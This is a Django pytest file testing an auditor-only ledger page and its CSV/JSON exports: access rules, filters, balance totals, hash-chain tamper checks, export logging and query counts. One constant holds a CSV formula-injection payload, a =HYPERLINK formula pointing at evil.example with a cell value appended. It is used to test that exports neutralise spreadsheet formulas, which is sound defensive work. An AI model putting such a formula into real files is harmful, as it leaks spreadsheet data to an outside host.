"""The auditor's ledger page and its CSV and JSON exports: who may see them, the filters,
totals that match the balances, a hash chain anyone can check (with the README's script),
spreadsheet-safe text, the export log, and a query count that does not grow."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from ledgers import chain
from ledgers.models import LedgerEntry, LedgerExport
from ledgers.selectors import EXPORT_COLUMNS, round_balance
from ledgers.services import commitment_record, reversal_record, spend_record
from tests.conftest import client_for
from tests.ledgers.conftest import published_round

PAGE = reverse("ledgers:audit_entries")
FORMATS = ["csv", "json"]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")'


def export_url(file_format: str) -> str:
    return reverse("ledgers:audit_export", args=[file_format])


def commit(officer, proposal, *, amount="100.00", supplier="Green Co", when=None):
    return commitment_record(
        officer=officer,
        proposal=proposal,
        amount=amount,
        supplier=supplier,
        reference="PO-17",
        # Before the earliest "now" these tests record at: a contract cannot be dated
        # after it was recorded.
        document_date=date(2019, 12, 1),
        now=when or timezone.now(),
    )


def spend(officer, proposal, *, amount="40.00", supplier="Green Co", when=None):
    return spend_record(
        officer=officer,
        proposal=proposal,
        amount=amount,
        supplier=supplier,
        reference="INV-9",
        document_date=date(2019, 12, 2),
        description="Oak saplings, planted",
        now=when or timezone.now(),
    )


def download(client, file_format: str, **params) -> str:
    response = client.get(export_url(file_format), params)
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def typed_csv_rows(text: str) -> list[dict]:
    """CSV rows with the canonical types back: the README's rules, written again here."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for name in ("supplier", "reference", "description", "reason"):
            if row[name].startswith("'"):
                row[name] = row[name][1:]
        for name in ("round", "sequence", "proposal", "reverses", "recorded_by"):
            row[name] = int(row[name]) if row[name] else None
        row["document_date"] = row["document_date"] or None
    return rows


def readme_script() -> str:
    readme = (Path(settings.BASE_DIR) / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Ledger exports for auditors", 1)[1].split("\n## ", 1)[0]
    match = re.search(r"```python\n(.*?)```", section, re.DOTALL)
    assert match, "the README's ledger section has no python script"
    return match.group(1)


def run_readme_script(tmp_path: Path, name: str, text: str) -> subprocess.CompletedProcess:
    """The README's script as an auditor would run it: its own file, a bare Python
    (isolated mode, outside the project, so the standard library is all it has)."""
    script = tmp_path / "check_ledger.py"
    script.write_text(readme_script(), encoding="utf-8")
    export = tmp_path / name
    export.write_text(text, encoding="utf-8", newline="")
    return subprocess.run(
        [sys.executable, "-I", str(script), str(export)],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=60,
    )


@pytest.fixture
def ledger(parks, officer):
    """Parks with two allocations, a commitment, a spend and a reversal of the spend."""
    budget_round, proposals = parks
    commit(officer, proposals["Trees"], amount="1500.00")
    wrong = spend(officer, proposals["Trees"], amount="1200.00")
    reversal_record(
        officer=officer,
        proposal=proposals["Trees"],
        original=wrong,
        reason="Invoice paid twice",
        now=timezone.now(),
    )
    spend(officer, proposals["Benches"], amount="250.50")
    return budget_round, proposals


# --- Who -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "expected"),
    [("anonymous", "login"), ("resident_a", 403), ("officer", 403), ("auditor", 200)],
)
def test_only_auditors_see_the_ledger_page(persona, expected, ledger, request):
    client = Client() if persona == "anonymous" else client_for(request.getfixturevalue(persona))

    response = client.get(PAGE)

    if expected == "login":
        assert response.status_code == 302
        assert response.url.startswith(reverse("account_login"))
    else:
        assert response.status_code == expected


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize(
    ("persona", "expected"),
    [("anonymous", "login"), ("resident_a", 403), ("officer", 403), ("auditor", 200)],
)
def test_only_auditors_can_export_and_only_their_exports_are_logged(
    persona, expected, file_format, ledger, request
):
    client = Client() if persona == "anonymous" else client_for(request.getfixturevalue(persona))

    response = client.get(export_url(file_format))

    if expected == "login":
        assert response.status_code == 302
        assert response.url.startswith(reverse("account_login"))
    else:
        assert response.status_code == expected
    assert LedgerExport.objects.count() == (1 if expected == 200 else 0)


def test_the_audit_overview_links_to_the_ledger(auditor):
    response = client_for(auditor).get(reverse("proposals:audit_overview"))
    assert f'href="{PAGE}"' in response.content.decode()


# --- The page ------------------------------------------------------------------------------


def test_page_shows_each_entry_with_who_recorded_it(ledger, auditor, officer):
    response = client_for(auditor).get(PAGE)

    page = response.content.decode()
    entries = list(LedgerEntry.objects.order_by("sequence"))
    assert response.context["entries"].paginator.count == len(entries) == 6
    assert "by the system" in page  # the allocations
    assert f"by {officer.email}" in page
    assert "Invoice paid twice" in page and "reverses No. 4" in page
    assert "£1,500.00" in page and "PO-17" in page and "Green Co" in page
    for entry in entries:
        # Shortened on screen, whole for screen readers and on hover.
        assert f'title="{entry.entry_hash}"' in page
        assert f'<span class="visually-hidden">{entry.entry_hash}</span>' in page
    assert f'href="{export_url("csv")}"' in page and f'href="{export_url("json")}"' in page


def test_page_filters_and_keeps_the_filters_in_the_download_links(ledger, auditor, area_b):
    lakes, _ = published_round(area=area_b, name="Lakes")
    client = client_for(auditor)

    response = client.get(PAGE, {"round": lakes.pk})

    assert {e.budget_round_id for e in response.context["entries"].object_list} == {lakes.pk}
    assert response.context["entries"].paginator.count == 2
    assert f'href="{export_url("csv")}?round={lakes.pk}"' in response.content.decode()
    by_area = client.get(PAGE, {"area": area_b.slug})
    assert by_area.context["entries"].paginator.count == 2


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"recorded_from": "31/02/2026"}, "recorded_from", "year-month-day"),
        ({"recorded_to": "soon"}, "recorded_to", "year-month-day"),
        (
            {"recorded_from": "2026-03-02", "recorded_to": "2026-03-01"},
            "recorded_to",
            "on or after",
        ),
        ({"round": "999999"}, "round", "valid choice"),
        ({"area": "atlantis"}, "area", "valid choice"),
    ],
)
def test_page_explains_a_bad_filter(params, field, message, ledger, auditor):
    response = client_for(auditor).get(PAGE, params)

    assert response.status_code == 200
    assert message in " ".join(response.context["form"].errors[field])
    page = response.content.decode()
    assert 'class="error-summary"' in page and f'id="id_{field}_error"' in page
    assert response.context["entries"] is None  # no table, no download links
    assert export_url("csv") not in page


def test_page_lists_the_20_latest_exports(ledger, auditor, area_a):
    budget_round, _ = ledger
    client = client_for(auditor)
    download(client, "json")  # the oldest: pushed off the list below
    for _ in range(19):
        download(client, "csv")
    download(client, "json", round=budget_round.pk, area=area_a.slug, recorded_from="2026-01-01")

    response = client.get(PAGE)

    shown = response.context["exports"]
    assert len(shown) == 20
    newest = shown[0]
    assert newest["export"].exported_by == auditor and newest["export"].file_format == "json"
    assert newest["filters"] == "round: Parks; area: Area A; recorded from 2026-01-01"
    assert [row["export"].file_format for row in shown[1:]] == ["csv"] * 19
    assert shown[1]["filters"] == "every entry"
    assert "auditor@example.org" in response.content.decode()


def entries_up_to(count: int, officer, proposals) -> None:
    """Commitments (and a reversal) until there are ``count`` entries in all."""
    first = None
    while LedgerEntry.objects.count() < count - 1:
        entry = commit(officer, proposals["Trees"], amount="1.00")
        first = first or entry
    reversal_record(
        officer=officer,
        proposal=proposals["Trees"],
        original=first,
        reason="Wrong proposal",
        now=timezone.now(),
    )


@pytest.mark.parametrize("params", [{}, {"round": "ROUND", "recorded_from": "2020-01-01"}])
def test_page_query_count_does_not_grow_with_entries(params, parks, officer, auditor):
    budget_round, proposals = parks
    params = {k: str(budget_round.pk) if v == "ROUND" else v for k, v in params.items()}
    client = client_for(auditor)

    def count_queries() -> int:
        with CaptureQueriesContext(connection) as queries:
            response = client.get(PAGE, params)
        assert response.status_code == 200
        return len(queries)

    entries_up_to(5, officer, proposals)
    download(client, "csv")
    small = count_queries()
    entries_up_to(60, officer, proposals)
    for _ in range(25):
        download(client, "json", round=budget_round.pk)
    large = count_queries()

    assert LedgerEntry.objects.count() == 60
    assert small == large, f"{small} queries with 5 entries, {large} with 60"


def test_export_query_count_does_not_grow_with_entries(parks, officer, auditor):
    _, proposals = parks
    client = client_for(auditor)

    def count_queries() -> int:
        with CaptureQueriesContext(connection) as queries:
            download(client, "csv")
        return len(queries)

    entries_up_to(5, officer, proposals)
    small = count_queries()
    entries_up_to(60, officer, proposals)
    large = count_queries()

    assert small == large, f"{small} queries with 5 entries, {large} with 60"


# --- The exports ---------------------------------------------------------------------------


def test_csv_has_the_export_columns_then_one_row_per_entry(ledger, auditor):
    text = download(client_for(auditor), "csv")

    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == EXPORT_COLUMNS
    assert len(rows) == 1 + LedgerEntry.objects.count()


def test_export_is_an_attachment_and_not_cached(ledger, auditor):
    budget_round, _ = ledger
    response = client_for(auditor).get(export_url("json"), {"round": budget_round.pk})

    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert re.fullmatch(
        rf'attachment; filename="ledger-round-{budget_round.pk}-\d{{8}}-\d{{6}}\.json"',
        response["Content-Disposition"],
    )
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize("file_format", FORMATS)
def test_each_export_is_logged_once_before_it_streams(file_format, ledger, auditor, area_a):
    budget_round, _ = ledger
    params = {
        "round": budget_round.pk,
        "area": area_a.slug,
        "recorded_from": "2026-01-01",
        "recorded_to": "2026-12-31",
    }
    before = timezone.now()

    response = client_for(auditor).get(export_url(file_format), params)

    # Logged when the view returns, before a byte of the file has been read.
    export = LedgerExport.objects.get()
    assert export.exported_by == auditor
    assert export.file_format == file_format
    assert before <= export.exported_at <= timezone.now()
    assert export.filters == {
        "round": budget_round.pk,
        "area": "area-a",
        "from": "2026-01-01",
        "to": "2026-12-31",
    }
    b"".join(response.streaming_content)
    assert LedgerExport.objects.count() == 1


def test_export_without_filters_logs_empty_filters(ledger, auditor):
    download(client_for(auditor), "csv")
    assert LedgerExport.objects.get().filters == {"round": None, "area": "", "from": "", "to": ""}


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize(
    "params",
    [
        {"recorded_from": "2026-13-01"},
        {"recorded_from": "2026-03-02", "recorded_to": "2026-03-01"},
        {"round": "nine"},
        {"round": "999999"},
        {"area": "atlantis"},
    ],
)
def test_bad_filter_is_refused_with_a_plain_message_and_not_logged(
    params, file_format, ledger, auditor
):
    response = client_for(auditor).get(export_url(file_format), params)

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.decode().startswith("The filters are not valid.")
    assert not LedgerExport.objects.exists()


def test_unknown_format_is_not_found(ledger, auditor):
    response = client_for(auditor).get(export_url("xlsx"))
    assert response.status_code == 404
    assert not LedgerExport.objects.exists()


def parsed(text: str, file_format: str) -> list[dict]:
    return typed_csv_rows(text) if file_format == "csv" else json.loads(text)


@pytest.mark.parametrize("file_format", FORMATS)
def test_filters_by_round_area_and_recorded_dates(file_format, parks, officer, auditor, area_b):
    budget_round, proposals = parks
    commit(officer, proposals["Trees"], when=datetime(2020, 1, 10, 12, tzinfo=UTC))
    spend(officer, proposals["Trees"], when=datetime(2020, 2, 10, 12, tzinfo=UTC))
    lakes, lake_proposals = published_round(area=area_b, name="Lakes")
    commit(officer, lake_proposals["Trees"], when=datetime(2020, 1, 20, 12, tzinfo=UTC))
    client = client_for(auditor)

    def keys(**params) -> set[tuple[int, int]]:
        rows = parsed(download(client, file_format, **params), file_format)
        return {(row["round"], row["sequence"]) for row in rows}

    parks_entries = {(budget_round.pk, n) for n in (1, 2, 3, 4)}
    lakes_entries = {(lakes.pk, n) for n in (1, 2, 3)}
    assert keys() == parks_entries | lakes_entries
    assert keys(round=budget_round.pk) == parks_entries
    assert keys(area=area_b.slug) == lakes_entries
    assert keys(recorded_to="2020-01-31") == {(budget_round.pk, 3), (lakes.pk, 3)}
    assert keys(recorded_from="2020-02-01", recorded_to="2020-02-29") == {(budget_round.pk, 4)}
    assert keys(round=lakes.pk, recorded_from="2020-01-20", recorded_to="2020-01-20") == {
        (lakes.pk, 3)
    }


@pytest.mark.parametrize("file_format", FORMATS)
def test_export_totals_match_the_round_balance(file_format, ledger, auditor, area_b):
    budget_round, _ = ledger
    published_round(area=area_b, name="Lakes")  # another round, filtered out

    rows = parsed(download(client_for(auditor), file_format, round=budget_round.pk), file_format)

    balance = round_balance(budget_round=budget_round)
    for column, key in (
        ("allocated_delta", "allocated"),
        ("committed_delta", "committed"),
        ("spent_delta", "spent"),
    ):
        assert sum(Decimal(row[column]) for row in rows) == balance[key]
    assert balance["spent"] == Decimal("250.50")  # the reversed payment does not count


@pytest.mark.parametrize("file_format", FORMATS)
def test_whole_round_export_verifies_and_tampering_shows(file_format, ledger, auditor):
    budget_round, _ = ledger
    rows = parsed(download(client_for(auditor), file_format, round=budget_round.pk), file_format)

    assert len(rows) == 6
    assert chain.verify_chain(rows) is None
    rows[3]["spent_delta"] = "0.00"
    broken = chain.verify_chain(rows)
    assert broken is not None and broken.sequence == 4


@pytest.mark.parametrize("file_format", FORMATS)
def test_readme_script_verifies_an_export_and_catches_tampering(
    file_format, ledger, officer, auditor, tmp_path
):
    budget_round, proposals = ledger
    spend(officer, proposals["Benches"], amount="10.00", supplier=HYPERLINK)
    text = download(client_for(auditor), file_format, round=budget_round.pk)

    intact = run_readme_script(tmp_path, f"intact.{file_format}", text)
    assert intact.returncode == 0, intact.stdout + intact.stderr
    assert intact.stdout.strip() == "OK: 7 entries, every hash and link holds"

    for tampered in (
        text.replace("250.50", "205.50"),  # a changed amount
        text.replace("Invoice paid twice", "Invoice paid once"),  # a changed reason
    ):
        assert tampered != text
        result = run_readme_script(tmp_path, f"tampered.{file_format}", tampered)
        assert result.returncode == 1, result.stdout
        assert "entry_hash does not match its contents" in result.stdout


def test_readme_script_catches_a_missing_entry(ledger, auditor, tmp_path):
    budget_round, _ = ledger
    text = download(client_for(auditor), "csv", round=budget_round.pk)
    lines = text.splitlines(keepends=True)
    without_entry_3 = "".join(lines[:3] + lines[4:])

    result = run_readme_script(tmp_path, "gap.csv", without_entry_3)

    assert result.returncode == 1
    assert f"round {budget_round.pk}, entry 4: does not follow entry 2" in result.stdout


def test_zero_entries_export_as_an_empty_json_array_and_a_bare_csv_header(ledger, auditor):
    client = client_for(auditor)

    assert json.loads(download(client, "json", recorded_to="2000-01-01")) == []
    assert download(client, "csv", recorded_to="2000-01-01") == ",".join(EXPORT_COLUMNS) + "\r\n"


def test_json_export_has_typed_values_and_one_entry_per_line(ledger, auditor):
    text = download(client_for(auditor), "json")

    lines = text.splitlines()
    assert lines[0] == "[" and lines[-1] == "]"
    assert len(lines) == 2 + LedgerEntry.objects.count()
    first, reversal = json.loads(text)[0], json.loads(text)[4]
    assert first["sequence"] == 1 and first["recorded_by"] is None
    assert first["document_date"] is None and first["recorded_by_email"] == ""
    assert reversal["kind"] == "reversal" and reversal["reverses"] == 4
    assert reversal["spent_delta"] == "-1200.00"


def test_formula_text_is_neutralised_in_csv_and_still_verifies(ledger, officer, auditor, tmp_path):
    budget_round, proposals = ledger
    entry = spend(officer, proposals["Benches"], amount="10.00", supplier=HYPERLINK)
    client = client_for(auditor)

    text = download(client, "csv", round=budget_round.pk)

    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    row = next(r for r in rows if int(r["sequence"]) == entry.sequence)
    assert row["supplier"] == "'" + HYPERLINK
    # Negative money and hashes are left alone: they are what the hash covers.
    reversal = next(r for r in rows if r["kind"] == "reversal")
    assert reversal["spent_delta"] == "-1200.00"
    assert all(not r[name].startswith("'") for r in rows for name in chain.MONEY_FIELDS)
    assert chain.verify_chain(typed_csv_rows(text)) is None
    assert run_readme_script(tmp_path, "formula.csv", text).returncode == 0
    # JSON is not for spreadsheets: the text is exactly as recorded.
    json_rows = json.loads(download(client, "json", round=budget_round.pk))
    assert json_rows[entry.sequence - 1]["supplier"] == HYPERLINK


@pytest.mark.parametrize(
    ("text", "in_csv"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-5 discount", "'-5 discount"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("'quoted'", "''quoted'"),  # so that stripping one ' always gives the original
        ("Plain Co", "Plain Co"),
    ],
)
def test_text_cells_that_a_spreadsheet_would_run_get_one_quote(
    text, in_csv, parks, officer, auditor
):
    _, proposals = parks
    commit(officer, proposals["Trees"], supplier=text)

    rows = list(csv.DictReader(io.StringIO(download(client_for(auditor), "csv"), newline="")))

    assert rows[-1]["supplier"] == in_csv
